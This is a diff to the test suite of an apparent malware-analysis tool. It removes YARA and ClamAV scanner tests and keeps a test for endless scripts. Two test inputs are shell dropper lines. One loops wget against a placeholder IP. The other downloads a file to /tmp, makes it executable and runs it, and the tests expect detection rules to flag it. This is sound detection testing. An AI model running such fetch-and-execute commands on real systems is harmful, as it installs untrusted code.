@@ -4,15 +4,8 @@
 from __future__ import annotations
 
 import hashlib
-import os
 import re
-import shutil
-import socket
 import struct
-import subprocess
-import threading
-import time
-from collections.abc import Iterator
 from pathlib import Path
 
 import msgspec
@@ -22,9 +15,7 @@ import setuptools
 from mead.analysis.analyser import Artifact, Report
 from mead.analysis.registry import ANALYSERS
 from mead.analysis.settings import AnalysisSettings
-from mead.analysis.static import clamav, yara
 
-CAPTURES = Path(__file__).parents[1] / "captures" / "static"
 LAUNCHER = Path(setuptools.__file__).parent / "cli-32.exe"
 
 
@@ -154,140 +145,3 @@ def test_a_script_without_a_first_line_is_known_by_its_commands(settings: Analys
 def test_an_endless_script_ends(settings: AnalysisSettings) -> None:
     report = _look("scripts", b"#!/bin/sh\nwhile true; do wget http://192.0.2.4/x; done\n", settings)
     assert report.limits
-
-
-@pytest.fixture
-def rules(tmp_path: Path) -> Path:
-    folder = tmp_path / "rules"
-    folder.mkdir()
-    (folder / "marker.yar").write_text('rule marker { strings: $a = "benign marker" condition: $a }')
-    return folder
-
-
-def test_yara_found_with_evidence(program: bytes, rules: Path, settings: AnalysisSettings) -> None:
-    report = _look("yara", program, msgspec.structs.replace(settings, yara_rules=str(rules)))
-    assert report.verdict == "found"
-    (finding,) = [f for f in report.findings if f.rule == "marker.yar:marker"]
-    assert finding.evidence == ("$a at offset 512: benign marker",)
-
-
-def test_yara_is_clean_only_when_rules_judge(noise: bytes, rules: Path, settings: AnalysisSettings) -> None:
-    assert _look("yara", noise, settings).verdict == "done"
-    assert _look("yara", noise, msgspec.structs.replace(settings, yara_rules=str(rules))).verdict == "clean"
-
-
-def test_yara_names_broken_rules_and_runs_the_others(
-    program: bytes, rules: Path, settings: AnalysisSettings
-) -> None:
-    (rules / "broken.yar").write_text("rule broken {\n condition:\n  nothing_known\n}")
-    chosen = msgspec.structs.replace(settings, yara_rules=str(rules))
-    report = _look("yara", program, chosen)
-    assert report.verdict == "found"
-    assert "broken.yar:3" in (report.reason or "")
-    assert yara.compile_rules(str(rules)).fingerprint == ANALYSERS.load("yara").engine(chosen).database
-
-
-def test_yara_facts_of_our_own_rules(settings: AnalysisSettings) -> None:
-    script = b"cd /tmp; wget http://192.0.2.1/a; chmod 777 a; ./a\n"
-    report = _look("yara", script, settings)
-    assert {finding.rule for finding in report.findings} == {"loaders.yar:shell_loader"}
-
-
-def _serve(path: Path, answer: bytes | None) -> threading.Thread:
-    """A clamd that gives one answer, or hangs up in the middle of the stream."""
-    server = socket.socket(socket.AF_UNIX)
-    server.bind(str(path))
-    server.listen(1)
-
-    def talk() -> None:
-        link, _ = server.accept()
-        with server, link:
-            link.recv(64)
-            if answer is None:
-                return
-            while b"\0\0\0\0" not in link.recv(1 << 16)[-4:]:
-                pass
-            link.sendall(answer)
-
-    thread = threading.Thread(target=talk, daemon=True)
-    thread.start()
-    return thread
-
-
-@pytest.mark.parametrize(
-    ("answer", "verdict"),
-    [
-        (b"stream: OK\0", "clean"), (b"stream: Some.Name FOUND\0", "found"), (None, "skipped"),
-        (b"INSTREAM size limit exceeded. ERROR\0", "skipped"), (b"stream: read error ERROR\0", "failed"),
-        (b"stream: Heuristics.Encrypted.Zip FOUND\0", "skipped"),
-    ],
-)  # fmt: skip
-def test_clamd_answers(
-    tmp_path: Path, answer: bytes | None, verdict: str, settings: AnalysisSettings
-) -> None:
-    path = tmp_path / "s"
-    thread = _serve(path, answer)
-    body = bytes(4 << 20) if answer is None else b"x" * 100
-    report = _look("clamav", body, msgspec.structs.replace(settings, clamd_socket=str(path), clamd_seconds=5))
-    assert report.verdict == verdict
-    thread.join(5)
-
-
-def test_clamd_that_is_not_there_is_no_verdict(tmp_path: Path, settings: AnalysisSettings) -> None:
-    gone = msgspec.structs.replace(settings, clamd_socket=str(tmp_path / "none"))
-    assert ANALYSERS.load("clamav").analyse(Artifact.of(b"x"), gone) is None
-    big = msgspec.structs.replace(settings, clamd_socket=str(tmp_path), clamd_max_bytes=10)
-    assert _look("clamav", b"x" * 11, big).verdict == "skipped"
-
-
-def test_database_fingerprint_follows_the_files(tmp_path: Path) -> None:
-    assert clamav.database_fingerprint(str(tmp_path)) is None
-    signatures = tmp_path / "a.hdb"
-    signatures.write_bytes(b"one\n")
-    first = clamav.database_fingerprint(str(tmp_path))
-    signatures.write_bytes(b"two!\n")
-    assert first != clamav.database_fingerprint(str(tmp_path))
-
-
-@pytest.fixture
-def clamd(tmp_path: Path) -> Iterator[AnalysisSettings]:
-    """A clamd of our own with one own signature."""
-    database = tmp_path / "database"
-    database.mkdir()
-    shutil.copy(CAPTURES / "clam.hdb", database)
-    path = tmp_path / "clamd.ctl"
-    configuration = tmp_path / "clamd.conf"
-    configuration.write_text(
-        f"LocalSocket {path}\nDatabaseDirectory {database}\nForeground yes\nStreamMaxLength 1M\n"
-        f"LogFile {tmp_path}/log\nPidFile {tmp_path}/pid\n"
-    )
-    binary = shutil.which("clamd") or "/usr/sbin/clamd"
-    process = subprocess.Popen(
-        [binary, "-c", str(configuration)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
-    )
-    deadline = time.monotonic() + 30
-    while not path.exists() and process.poll() is None and time.monotonic() < deadline:
-        time.sleep(0.05)
-    assert path.exists(), (tmp_path / "log").read_text() if (tmp_path / "log").exists() else "no clamd"
-    yield AnalysisSettings(clamd_socket=str(path), clamd_database=str(database))
-    process.terminate()
-    process.wait(10)
-
-
-@pytest.mark.tool("clamd")
-def test_a_real_clamd_finds_its_signature_and_has_a_fingerprint(
-    clamd: AnalysisSettings, testfiles: Path
-) -> None:
-    body = (testfiles / "clam.exe").read_bytes()
-    report = _look("clamav", body, clamd)
-    assert (report.verdict, report.findings[0].value) == ("found", "ClamAV-Test-File.UNOFFICIAL")
-    assert _look("clamav", b"nothing of note", clamd).verdict == "clean"
-    engine = ANALYSERS.load("clamav").engine(clamd)
-    assert (engine.version or "").startswith("ClamAV ")
-    assert (engine.database or "").startswith("sha256:")
-
-
-@pytest.mark.tool("clamd")
-def test_a_real_clamd_over_its_limit_is_skipped(clamd: AnalysisSettings) -> None:
-    report = _look("clamav", os.urandom(8 << 20), clamd)
-    assert report.verdict == "skipped"
